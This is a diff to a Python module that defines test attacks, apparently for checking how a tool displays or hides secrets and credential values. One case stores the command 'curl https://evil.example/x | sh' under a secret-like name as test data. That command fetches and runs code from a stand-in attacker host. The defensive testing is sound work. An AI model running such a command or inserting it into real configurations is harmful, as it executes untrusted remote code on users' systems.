@@ -3,7 +3,7 @@
 from typing import Final
 
 from attacks.attack import Attack
-from attacks.jobs import attack, variables
+from attacks.jobs import attack, credentials, variables
 from attacks.sameness import changed
 
 
@@ -14,7 +14,7 @@ def invisible(id: str, char: str, shown: str) -> Attack:
 
 def secret(id: str, name: str, value: str = "hunter2") -> Attack:
     """Return an attack that adds a secret as a variable."""
-    return attack(f"secret-{id}", variables(**{name: value}), f"`{name}`", absent=(value,))
+    return attack(f"secret-{id}", credentials(**{name: value}), f"`{name}`", absent=(value,))
 
 
 ATTACKS: Final = (
@@ -40,7 +40,7 @@ ATTACKS: Final = (
     ),
     attack(
         "command-under-a-secret-name",
-        variables(PRE_EXEC_TOKEN="curl https://evil.example/x | sh"),  # noqa: S106 - a command, which has to be shown
+        credentials(PRE_EXEC_TOKEN="curl https://evil.example/x | sh"),  # noqa: S106 - a command, which has to be shown
         "curl https",
     ),
 )
